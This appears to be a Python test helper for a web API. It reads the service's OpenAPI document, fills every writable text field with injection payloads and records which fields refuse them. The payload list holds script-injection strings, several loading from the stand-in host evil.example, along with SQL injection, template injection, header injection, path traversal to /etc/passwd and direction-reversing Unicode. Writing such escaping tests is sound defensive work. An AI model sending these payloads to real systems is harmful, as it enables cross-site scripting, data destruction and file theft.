"""Texts that would do something in a page that did not escape them, and where the API takes texts.

Where it takes them is read from the OpenAPI document: a new field of a text is filled as well.
"""

import json
import re
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

import httpx2

Json = Any
Schema = Mapping[str, Any]

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=//evil.example/x.svg#a /></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href=javascript:alert(1)>here</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x.mp3 autoplay>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "</text></svg><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    'https://evil.example/?a=1&b="2"',
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "{{ 191 * 193 }}",
    "${191*193}",
    "<%= 191 * 193 %>",
    "{% for each in [] %}",
    "'; DROP TABLE pedigree.event; --",
    "' OR '1'='1",
    "%s %(name)s {0} {name}",
    "Set-Cookie: a=b Location: //evil.example",
    "../../../../etc/passwd",
    "\u202egpj.exe\u2066",
    "\u200b\u2028\u2029\ufeff",
    "\x1b[31mred\x07",
    "Z\u0351\u0351\u0351\u0351\u0351\u0351a\u0315\u0315\u0315lgo",
    "<!--",
)
"""Markup, handlers, ways out of an attribute or an element, templates, SQL, headers, directions."""

_LONGEST = 230
"""Names of people have at most 256 characters, so that several payloads share one text."""


def texts() -> tuple[str, ...]:
    """All payloads, in as few texts as the shortest fields can hold."""
    found = [""]
    for each in PAYLOADS:
        together = f"{found[-1]} {each}".strip()
        if len(together.encode()) <= _LONGEST:
            found[-1] = together
        else:
            found.append(each)
    return tuple(found)


class Document:
    """The OpenAPI document of a service.

    Args:
        content: What ``/openapi.json`` returns.
    """

    def __init__(self, content: Mapping[str, Any]) -> None:
        self.paths: Mapping[str, Any] = content["paths"]
        self._schemas: Mapping[str, Schema] = content["components"]["schemas"]

    def body(self, method: str, path: str) -> Schema | None:
        """The schema of an operation's JSON body; None without one."""
        content = self.paths[path][method.lower()].get("requestBody", {}).get("content", {})
        found = content.get("application/json", {}).get("schema")
        return None if found is None else self.plain(found)

    def texts_of_query(self, method: str, path: str) -> tuple[str, ...]:
        """The parameters of an operation's query that take any text."""
        given = self.paths[path][method.lower()].get("parameters", ())
        return tuple(
            each["name"] for each in given if each["in"] == "query" and self._is_text(each)
        )

    def _is_text(self, parameter: Mapping[str, Any]) -> bool:
        return is_text(self.plain(parameter["schema"]))

    def plain(self, schema: Schema) -> Schema:
        """A schema without references and without null."""
        while True:
            if "$ref" in schema:
                schema = self._schemas[schema["$ref"].rpartition("/")[2]]
                continue
            kinds = [each for each in schema.get("anyOf", ()) if each != {"type": "null"}]
            if not kinds:
                return schema
            known = [each for each in map(self.plain, kinds) if is_text(each)]
            schema = known[0] if known else kinds[0]

    def changes_with_text(self) -> Iterator[tuple[str, str]]:
        """Every operation that changes something and takes a text."""
        for path, operations in self.paths.items():
            for method in operations:
                if method == "get":
                    continue
                schema = self.body(method, path)
                if self.texts_of_query(method, path) or (schema and self.has_text(schema)):
                    yield method.upper(), path

    def has_text(self, schema: Schema, depth: int = 0) -> bool:
        """Whether a body of a schema has any text of its caller."""
        schema = self.plain(schema)
        if is_text(schema):
            return True
        parts = [*schema.get("properties", {}).values(), schema.get("items")]
        further = schema.get("additionalProperties")
        parts.append(further if isinstance(further, Mapping) else None)
        return depth < 6 and any(self.has_text(each, depth + 1) for each in parts if each)

    def filled(self, schema: Schema, known: Json, text: str) -> Json:
        """A body with a text in each field that takes one, and what is known in the others."""
        schema = self.plain(schema)
        if isinstance(known, Mapping) and "properties" in schema:
            found = {
                name: self.filled(part, known[name], text)
                for name, part in schema["properties"].items()
                if name in known
            }
            for name, part in schema["properties"].items():
                if name not in known and (value := self._texts(part, text)) is not None:
                    found[name] = value
            return found
        if isinstance(known, Sequence) and not isinstance(known, str) and "items" in schema:
            return [self.filled(schema["items"], each, text) for each in known]
        return known

    def _texts(self, schema: Schema, text: str) -> Json | None:
        """A value that consists of a text; None for a schema of something else."""
        schema = self.plain(schema)
        if is_text(schema):
            return text
        if schema.get("type") == "array" and is_text(self.plain(schema["items"])):
            return [text]
        further = schema.get("additionalProperties")
        if isinstance(further, Mapping):
            named = self.plain(further)
            if is_text(named) or "type" not in named:
                return {text: text}
            return {text: 0.5} if named.get("type") == "number" else None
        if "properties" in schema and not schema.get("required"):
            return self.filled(schema, {}, text) or None
        return None


def is_text(schema: Schema) -> bool:
    """Whether a schema takes any text of at least some length."""
    narrow = ("pattern", "enum", "const", "format")
    return schema.get("type") == "string" and not any(each in schema for each in narrow)


@dataclass
class Filler:
    """Sends operations with a text in each field, and keeps which fields refuse it.

    Attributes:
        client: The client of an admin, whose base is the API.
        second: That of another admin, who decides about what the first one made.
        document: The OpenAPI document.
        refused: The fields that refused a text, by operation.
        done: The operations that were done with texts.
    """

    client: httpx2.Client
    second: httpx2.Client
    document: Document
    refused: set[tuple[str, str]] = field(default_factory=set)
    done: set[tuple[str, str]] = field(default_factory=set)

    def send(
        self, method: str, path: str, known: Json, text: str, query: Json = None, **parts: object
    ) -> httpx2.Response:
        """Send an operation; a field that refuses the text is left out.

        Args:
            method: Its method.
            path: Its path below the prefix of the API.
            known: What its body must have besides texts.
            text: The text.
            query: What its query has besides texts.
            parts: The parts of its path.
        """
        return self._sent(self.client, method, path, known, text, query, **parts)

    def others(
        self, method: str, path: str, known: Json, text: str, **parts: object
    ) -> httpx2.Response:
        """Send an operation that needs somebody else, as :meth:`send`."""
        return self._sent(self.second, method, path, known, text, None, **parts)

    def _sent(
        self,
        client: httpx2.Client,
        method: str,
        path: str,
        known: Json,
        text: str,
        query: Json,
        **parts: object,
    ) -> httpx2.Response:
        template = f"/api/v1{path}"
        schema = self.document.body(method, template)
        body = None if schema is None else self.document.filled(schema, known or {}, text)
        asked = dict.fromkeys(self.document.texts_of_query(method, template), text)
        asked.update(query or {})
        url = path.format(**parts)
        plain, softened = "".join(each for each in text if each.isprintable()), set()
        for _ in range(30):
            sent = {} if schema is None else {"json": body}
            answer = client.request(method, url, params=asked, **sent)
            if answer.status_code < 400:
                self.done.add((method, path))
                return answer
            problem = answer.json()
            where = str(problem.get("field", ""))
            assert answer.status_code in (400, 422), (method, url, problem)
            if where not in softened and plain != text:
                # Names take what is printable, and no signs that turn the direction of a text.
                softened.add(where)
                before = (body, asked)
                body, asked = (_plainer(each, where, text, plain) for each in before)
                if (body, asked) == before:  # the verb names the field otherwise
                    body = _plainer(body, "", text, plain)
                continue
            ours = plain if where in softened else text
            assert _left_out(where, body, asked, ours), (method, url, problem)
            self.refused.add((f"{method} {path}", where))
        raise AssertionError((method, url, json.dumps(body)[:500]))


def _plainer(value: Json, where: str, text: str, plain: str) -> Json:
    """A value with a plainer text in the field that was refused, or in what has that name."""
    names = [each for each in re.split(r"[.\[\]]+", where) if each and not each.isdigit()][-1:]

    def changed(each: Json, is_there: bool) -> Json:
        if isinstance(each, dict):
            return {
                (plain if is_there and key == text else key): changed(
                    inner, is_there or key in names
                )
                for key, inner in each.items()
            }
        if isinstance(each, list):
            return [changed(inner, is_there) for inner in each]
        return each.replace(text, plain) if is_there and isinstance(each, str) else each

    return changed(value, not names)


def _left_out(where: str, body: Json, asked: dict[str, str], text: str) -> bool:
    """Leave out the field that was refused; false if it has no text of ours."""
    if asked.get(where) == text:
        del asked[where]
        return True
    parts = [each for each in re.split(r"[.\[\]]+", where) if each]
    return _without_path(body, parts, text) or _without_name(body, parts[-1:], text)


def _without_path(body: Json, parts: Sequence[str], text: str) -> bool:
    """Leave out what a path leads to, from the root of a body."""
    for place, part in enumerate(parts):
        key = int(part) if isinstance(body, list) and part.isdigit() else part
        inner = body[key] if isinstance(body, list) else (body or {}).get(key)
        is_value = not isinstance(inner, dict) or text in inner
        if place == len(parts) - 1 and is_value and _has(inner, text):
            del body[key]
            return True
        body = inner
        if not isinstance(body, dict | list):
            return False
    return False


def _without_name(body: Json, names: Sequence[str], text: str) -> bool:
    """Leave out every field of a name, wherever it is."""
    found = False
    if isinstance(body, dict):
        for name in names:
            if isinstance(body.get(name), str | list) and _has(body[name], text):
                del body[name]
                found = True
    for each in body.values() if isinstance(body, dict) else body if isinstance(body, list) else ():
        found = _without_name(each, names, text) or found
    return found


def _has(value: Json, text: str) -> bool:
    if isinstance(value, dict):
        return any(_has(each, text) for each in (*value, *value.values()))
    if isinstance(value, list | tuple):
        return any(_has(each, text) for each in value)
    return isinstance(value, str) and text in value
